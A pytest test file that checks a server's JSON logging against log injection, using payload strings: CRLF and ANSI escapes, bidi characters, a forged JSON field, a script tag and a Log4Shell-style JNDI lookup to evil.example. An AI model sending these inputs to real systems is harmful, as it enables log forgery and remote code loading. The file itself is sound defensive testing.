"""Log injection: no input of a client splits or forges a log line."""

import asyncio
import json
import logging
from urllib.parse import quote

import pytest

from tests.attacks.wire import Wire

WORDS = (
    "\\r\\n{'level':'INFO'}",
    "\x9b31m",
    "\u2028\u2029".encode().decode("latin-1"),
    "\u202eevil".encode().decode("latin-1"),
    "${jndi:ldap://evil.example/a}",
    '","level":"ERROR","x":"',
    "%0d%0a%1b",
    "x" * 2_000,
    "\x1b[2J\x1b[31m",
)


@pytest.fixture
def own_wire(server: str) -> Wire:
    """Return a way to send anything to a server that logs for this test only."""
    return Wire(server)


async def lines(capfd: pytest.CaptureFixture[str]) -> list[dict[str, object]]:
    """Return the lines of requests, by their correlation ids."""
    await asyncio.sleep(0.2)  # the log writer's period, several times over
    log = capfd.readouterr().err
    read = [json.loads(line) for line in log.splitlines() if line.startswith("{")]
    ours = [line for line in read if str(line.get("correlation_id", "")).startswith("attack-")]
    return sorted(ours, key=lambda line: str(line["correlation_id"]))


async def test_no_user_agent_forges_a_line(
    own_wire: Wire, capfd: pytest.CaptureFixture[str]
) -> None:
    for number, word in enumerate(WORDS):
        headers = (f"User-Agent: {word}", f"X-Correlation-ID: attack-{number}")
        await own_wire.get("/.well-known/jwks.json", *headers)
    found = await lines(capfd)
    # A control character in a header is refused by the server, before there is a request.
    assert {(line["path"], line["status"]) for line in found} == {("/.well-known/jwks.json", 200)}
    assert len(found) == len(WORDS) - 1


async def test_no_path_forges_a_line(own_wire: Wire, capfd: pytest.CaptureFixture[str]) -> None:
    for number, word in enumerate(WORDS):
        target = f"/{quote(word, safe='%${}:,')}"
        await own_wire.get(target, f"X-Correlation-ID: attack-{number}")
    found = await lines(capfd)
    assert len(found) == len(WORDS)
    assert [line["path"] for line in found if not str(line["path"]).isprintable()] == []


@pytest.mark.parametrize(
    "identifier",
    ["AB123456C", "ab%31%323456C", "9434765919", "test.nin@example.com", "eyJhbGciOiJub25l.e.s"],
)
async def test_i9_an_identifier_in_a_path_is_hidden_everywhere(wire: Wire, identifier: str) -> None:
    status, answer = await wire.get(f"/api/nhs/x/{identifier}?{identifier}")
    assert status == 404
    assert answer.endswith(b'"instance":"/api/nhs/x/***"}')


async def test_what_is_hidden_in_an_answer_is_hidden_in_the_log(
    own_wire: Wire, capfd: pytest.CaptureFixture[str]
) -> None:
    await own_wire.get("/api/nhs/x/AB123456C", "X-Correlation-ID: attack-1")
    assert [line["path"] for line in await lines(capfd)] == ["/api/nhs/x/***"]


async def test_a_correlation_id_is_taken_in_its_own_letters_only(
    own_wire: Wire, capfd: pytest.CaptureFixture[str]
) -> None:
    await own_wire.get("/health/live", "X-Correlation-ID: attack-<script>")
    await own_wire.get("/health/live", f"X-Correlation-ID: attack-{'x' * 64}")
    assert await lines(capfd) == []


@pytest.mark.usefixtures("server")
async def test_a_librarys_message_is_one_line(capfd: pytest.CaptureFixture[str]) -> None:
    logging.getLogger("asyncio").warning("first\nfuture: <Task 'AB123456C'>")
    await asyncio.sleep(0.2)
    log = capfd.readouterr().err
    assert '"message":"first"' in log
    assert "AB123456C" not in log
